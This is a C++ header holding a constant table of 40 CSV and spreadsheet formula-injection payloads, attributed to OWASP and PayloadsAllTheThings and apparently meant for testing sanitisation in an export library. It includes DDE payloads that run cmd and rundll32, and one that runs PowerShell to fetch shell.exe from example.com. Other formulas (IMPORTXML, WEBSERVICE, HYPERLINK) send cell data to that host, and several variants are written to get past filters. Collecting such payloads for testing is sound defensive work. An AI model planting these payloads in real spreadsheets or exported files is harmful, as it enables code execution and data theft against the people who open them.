// SPDX-License-Identifier: Apache-2.0
#pragma once

#include <array>
#include <string_view>

namespace porteur::tables {

/// Cells that spreadsheets have been attacked with.
/// @source OWASP, "CSV Injection"; PayloadsAllTheThings, "CSV Injection"; read 2026-11
inline constexpr std::array<std::string_view, 40> attacks = {
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.com?x=\"&A1,\"Click\")",
    "=IMPORTXML(CONCAT(\"http://example.com?v=\",CONCATENATE(A2:E2)),\"//a\")",
    "=IMPORTFEED(\"http://example.com\")",
    "=WEBSERVICE(\"http://example.com/\"&A1)",
    "=2+5+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget example.com/shell.exe)'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "+thespanishinquisition(cmd|'/c calc.exe'!A",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\"=1+1\"",
    "\" =1+1",
    "\xEF\xBC\x9D"
    "1+1",
    "\xEF\xBC\x8B"
    "1+1",
    "\xEF\xBC\x8D"
    "1+1",
    "\xEF\xBC\xA0"
    "SUM(1)",
    "x;=1+1",
    "x,=1+1",
    "x\t=1+1",
    "x\r\n=1+1",
    "x\",\"=1+1",
    "x;\"=1+1\"",
    "x|=1+1",
    "x; @SUM(1)",
    ";;;=1+1",
    "''=1+1",
};

}  // namespace porteur::tables
